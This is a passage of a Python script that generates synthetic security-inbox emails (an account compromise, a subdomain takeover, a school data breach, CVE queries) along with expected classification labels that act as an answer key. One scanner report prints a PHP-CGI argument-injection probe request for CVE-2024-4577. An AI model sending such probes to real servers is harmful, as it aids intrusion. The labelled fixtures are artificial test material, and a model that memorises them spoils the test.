    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Thunderbird/128.11.0"),
], text="""Hi,

Following up on my report from yesterday with more information, since
your reply asked for it.

It was not a false alarm. The "Recent logins" page in Quadro shows two
sessions I did not make: 17 June 22:48 and 23:05 (my timezone, EDT),
both from 185.x addresses in a country I have never been to. In the same
window someone created a new FTP user called "sysbackup" and added a
forwarding rule on info@northpeak.example that copied all incoming mail
to an outside Gmail-type address.

I've enabled 2FA on the Quadro account, deleted the FTP user and the
forwarding rule. I did NOT reuse this password anywhere, so I'd like to
understand how they got it - is there any chance it came from your side?

Thanks,
Elena

On 6/18/25 3:02 AM, Example Hosting Security wrote:
> Hello,
>
> Thank you for contacting the Example Hosting security team. Your report
> has been logged as SEC-2025-0517. To help us investigate, could you tell
> us whether you noticed any changes in your account, and send the times
> of any logins you do not recognise?
>
> Kind regards,
> Example Hosting Security
""", label=lab("incident", "en",
    fix="I've enabled 2FA on the Quadro account")))

# ---------------------------------------------------------------- 036
MAILS.append(dict(file="036-researcher-thanks-hall-of-fame.eml", headers=[
    ("From", "Dmitri Halloran <d.halloran@mailbox.example>"),
    ("To", "security@example.test"),
    ("Subject", "Re: [SEC-2025-0142] Postino signature XSS - closed"),
    ("Date", "Thu, 19 Jun 2025 08:20:45 +0000"),
    ("Message-ID", "<CAF8x1q9Zr2-reply3@mail.mailbox.example>"),
    ("In-Reply-To", "<sec-2025-0142-close@example.test>"),
], text="""Thanks a lot, really appreciated the quick turnaround and the updates
along the way. Name for the hall of fame: "Dmitri Halloran" is fine, no
handle. Happy to look at other stuff of yours in the future.

Dmitri

On Wed, Jun 18, 2025 at 5:11 PM Example Hosting Security
<security@example.test> wrote:
> Hi Dmitri,
>
> we are closing SEC-2025-0142. Thank you again for your report and for
> your patience. If you'd like to be listed in our security
> acknowledgements page, let us know the name or handle you prefer.
>
> Best regards,
> Example Hosting Security
""", label=lab("unknown", "en")))

# ---------------------------------------------------------------- 037
MAILS.append(dict(file="037-researcher-subdomain-takeover-status.eml", headers=[
    ("From", "Rahul Menon <rahulmenon.sec@gmail.example>"),
    ("To", "security@example.test"),
    ("Subject", "subdomain takeover possible status-old.example.test"),
    ("Date", "Sat, 21 Jun 2025 04:12:38 +0530"),
    ("Message-ID", "<CAL9mR4h_uL=Mn0n3xTk@mail.gmail.example>"),
], text="""Dear Sir/Madam,

I am security researcher from India and I was doing recon on your domains
since some days for learning purpose. I am writing you because I think I
found the subdomain takeover in one of your subdomain, please kindly check.

The subdomain status-old.example.test is having CNAME to
exhosting-status.pages-host.example but that pages-host project is not
existing anymore, it is giving "There isn't a site here" 404 page of the
provider. So anybody can register same project name in pages-host (it is
free) and then he will control the content of status-old.example.test
under your domain, he can put phishing page or steal cookies if your
cookies are scoped to .example.test (I checked, the Quadro session cookie
is for .example.test so this is more serious I think).

I have NOT claimed the project, only I checked with dig and curl:

  $ dig +short CNAME status-old.example.test
  exhosting-status.pages-host.example.

For fixing, you can remove the dangling CNAME from your DNS, or claim the
project yourself before somebody else is doing it.

Please let me know if this is eligible for any reward or hall of fame,
I will be very thankful. Sorry for my english.

Regards,
Rahul Menon
""", label=lab("vulnerability", "en",
    fix="remove the dangling CNAME")))

# ---------------------------------------------------------------- 038
MAILS.append(dict(file="038-pec-istituto-accessi-anomali-sito.eml", headers=[
    ("From", "Istituto Comprensivo Alta Valle <ic.altavalle@pec.istruzione.example>"),
    ("To", "security@example.test"),
    ("Subject", "POSTA CERTIFICATA: accessi anomali al sito istituzionale e all'area riservata docenti"),
    ("Date", "Tue, 24 Jun 2025 13:15:02 +0200"),
    ("Message-ID", "<opec210.20250624131502.7731.11.1.4@pec.istruzione.example>"),
], charset="windows-1252", cte="quoted-printable", text="""Alla c.a. del servizio sicurezza di Example Hosting S.r.l.

Oggetto: segnalazione di accessi anomali al sito istituzionale
www.icaltavalle.example e all'area riservata docenti

Si comunica che in data odierna l'animatore digitale dell'Istituto, prof.
Fabio Cerutti, ha rilevato nel pannello di amministrazione del sito
(ospitato presso di Voi con contratto n. 2019/4471) la presenza di un
utente amministratore denominato "supporto_tecnico", non creato da
personale della scuola. Dal registro attività del CMS risulta che tale
utente, tra il 21 e il 23 giugno, ha effettuato l'accesso undici volte da
indirizzi esteri e ha scaricato l'esportazione dell'elenco degli utenti
dell'area riservata, che comprende docenti e alcuni genitori
rappresentanti di classe (nomi, indirizzi e-mail e numeri di telefono).

La scuola non dispone di competenze tecniche per accertare le modalità
dell'accesso e chiede pertanto il Vostro supporto urgente, anche ai fini
dell'eventuale notifica al Garante entro i termini previsti.

Per quanto riguarda la comunicazione agli interessati, ai genitori e ai
docenti comunicheremmo che i loro dati di contatto potrebbero essere stati
consultati da terzi non autorizzati e che la scuola non chiederà mai
password o pagamenti via e-mail. Vi chiediamo un parere su tale testo.

Distinti saluti

Il Dirigente Scolastico
Dott.ssa Annalisa Berté
(firma autografa sostituita a mezzo stampa ai sensi dell'art. 3, c. 2,
D.Lgs. 39/1993)
""", label=lab("incident", "it",
    cust="consultati da terzi non autorizzati")))

# ---------------------------------------------------------------- 039
MAILS.append(dict(file="039-rivenditore-siete-coinvolti-cve-soggetto.eml", headers=[
    ("From", "Giorgia Fontana <giorgia@fontanaweb.example>"),
    ("To", "security@example.test"),
    ("Subject", "Siete coinvolti da CVE-2025-32433?"),
    ("Date", "Thu, 26 Jun 2025 09:09:41 +0200"),
    ("Message-ID", "<ad3c1f7e-22b9-4c6d-8e01-57f9a4b3c2d1@fontanaweb.example>"),
], text="""Ciao,

scrivo come rivenditore (account FW-0093). Un paio di clienti mi hanno
girato un articolo sulla vulnerabilità in oggetto, quella del server SSH
di Erlang/OTP, e mi chiedono se i servizi che rivendo da voi sono a
rischio. Io non ho idea se da qualche parte usiate Erlang (RabbitMQ? il
sistema di messaggistica interno?).

Mi basta una riga da girare: "siamo coinvolti / non siamo coinvolti / stiamo
verificando". Non ho visto nulla di strano sui miei servizi.

Grazie mille,
Giorgia Fontana
FontanaWeb - siti e hosting per professionisti
""", label=lab("unknown", "it", cves=["CVE-2025-32433"])))

# ---------------------------------------------------------------- 040
MAILS.append(dict(file="040-sentinella-scansione-php-cgi.eml", headers=[
    ("From", "Sentinella - Scansioni automatiche <noreply@sentinella-scan.example>"),
    ("To", "security@example.test"),
    ("Subject", "[Sentinella] Vulnerabilità critica rilevata su legacy-php.example.test"),
    ("Date", "Mon, 30 Jun 2025 05:30:09 +0200"),
    ("Message-ID", "<snt-20250630053009-2291@sentinella-scan.example>"),
], text="""SENTINELLA - Rapporto di scansione automatica

Cliente: Example Hosting S.r.l. (contratto SNT-2291)
Profilo: Perimetro esterno - settimanale
Data scansione: 30/06/2025 02:00 - 05:24

Esito: 1 vulnerabilità critica

Host: legacy-php.example.test (203.0.113.90)
Servizio: 80/tcp http - Apache/2.4.58 (Win64) PHP/8.1.25
Vulnerabilità: PHP-CGI argument injection (CVE-2024-4577)
Vettore CVSS: CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N
Gravità: Critica
Verifica: la richiesta /php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1
  restituisce un comportamento compatibile con l'iniezione di argomenti
  (nessun codice eseguito dal nostro scanner)
Azione consigliata: Aggiornare PHP alla versione 8.1.29 o successiva;
  in alternativa disabilitare la modalità PHP-CGI su Apache

Questo messaggio è generato automaticamente. Per i dettagli accedere al
portale Sentinella.
""", html="""<html><body style="font-family:Tahoma,sans-serif;font-size:13px">
<h2 style="color:#8b0000">SENTINELLA &ndash; Rapporto di scansione automatica</h2>
<p>Cliente: <b>Example Hosting S.r.l.</b> (contratto SNT-2291)<br>
Profilo: Perimetro esterno &ndash; settimanale<br>
Data scansione: 30/06/2025 02:00 &ndash; 05:24</p>
<p><b>Esito: 1 vulnerabilit&agrave; critica</b></p>
<table border="1" cellpadding="5" cellspacing="0">
<tr><th>Host</th><td>legacy-php.example.test (203.0.113.90)</td></tr>
<tr><th>Servizio</th><td>80/tcp http &ndash; Apache/2.4.58 (Win64) PHP/8.1.25</td></tr>
<tr><th>Vulnerabilit&agrave;</th><td>PHP-CGI argument injection (CVE-2024-4577)</td></tr>
<tr><th>Vettore CVSS</th><td>CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N</td></tr>
<tr><th>Gravit&agrave;</th><td>Critica</td></tr>
<tr><th>Azione consigliata</th><td>Aggiornare PHP alla versione 8.1.29 o successiva; in alternativa disabilitare la modalit&agrave; PHP-CGI su Apache</td></tr>
</table>
<p style="font-size:11px;color:#666">Questo messaggio &egrave; generato automaticamente. Per i dettagli accedere al portale Sentinella.</p>
</body></html>
""", label=lab("vulnerability", "it", cves=["CVE-2024-4577"],
    vector="CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N", score=9.3,
    fix="Aggiornare PHP alla versione 8.1.29")))

def build(m):
    msg = EmailMessage()
    for k, v in m["headers"]:
        msg[k] = v
    cs = m.get("charset", "utf-8")
    cte = m.get("cte")
    kw = {"charset": cs}
    if cte:
        kw["cte"] = cte
    text, html = m.get("text"), m.get("html")
    if text is not None and html is not None:
        msg.set_content(text, **kw)
        msg.add_alternative(html, subtype="html", **kw)
    elif html is not None:
        msg.set_content(html, subtype="html", **kw)
    else:
        msg.set_content(text, **kw)
    return msg.as_bytes(policy=policy.SMTP)


def main():
    names = [m["file"] for m in MAILS]
    assert len(names) == len(set(names))
    with open(os.path.join(OUT, "expected.jsonl"), "w", encoding="utf-8") as fh:
        for m in MAILS:
            with open(os.path.join(OUT, m["file"]), "wb") as f:
                f.write(build(m))
            row = {"file": m["file"]}
            row.update(m["label"])
            assert list(row) == KEYS
            fh.write(json.dumps(row, ensure_ascii=False) + "\n")
    print("wrote", len(MAILS), "mails")


if __name__ == "__main__":
    main()
